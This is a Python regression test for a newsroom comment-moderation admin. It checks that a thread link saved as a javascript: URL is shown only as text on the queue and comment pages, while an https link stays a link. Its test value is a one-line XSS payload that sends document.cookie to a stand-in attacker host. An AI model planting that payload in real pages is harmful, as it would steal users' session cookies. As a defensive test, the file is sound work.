"""The workspace links a comment's page only by an http(s) URL. A thread's link kept by
an import before imports checked it (``javascript:…``) was made into a link on the queue
and on the comment's page: the CSP stopped it running, but it must not be there."""

from __future__ import annotations

from sqlalchemy import select, update

from rostra.store.tables import comments, threads
from tests.admin.conftest import Newsroom

SCRIPT = "javascript:fetch('//evil.example/'+document.cookie)"


def _set_link(room: Newsroom, comment_id: int, url: str) -> None:
    with room.server.services.db.write() as conn:
        thread_id = conn.scalar(select(comments.c.thread_id).where(comments.c.id == comment_id))
        conn.execute(update(threads).where(threads.c.id == thread_id)
                     .values(url=url, title="The story"))


def test_it_links_a_page_only_by_an_http_url(newsroom: Newsroom) -> None:
    room = newsroom
    scripted = room.held("On a page with a scripted link", thread="/story/scripted")
    plain = room.held("On a page with a link", thread="/story/plain")
    _set_link(room, scripted, SCRIPT)
    _set_link(room, plain, "https://news.example/story/plain")
    for path in (f"/admin/comments/{scripted}", "/admin/queue"):
        doc = room.moderator.page(path)
        hrefs = [str(h) for h in doc.xpath("//@href")]
        assert not [h for h in hrefs if "javascript" in h.lower()], path
        meta = doc.xpath(f'//article[@data-id="{scripted}"]//span[@class="meta"]'
                         if path == "/admin/queue" else '//span[@class="meta"]')
        assert "The story" in meta[0].text_content()  # the title stays, as text
    doc = room.moderator.page(f"/admin/comments/{plain}")
    assert doc.xpath('//span[@class="meta"]/a/@href') == ["https://news.example/story/plain"]
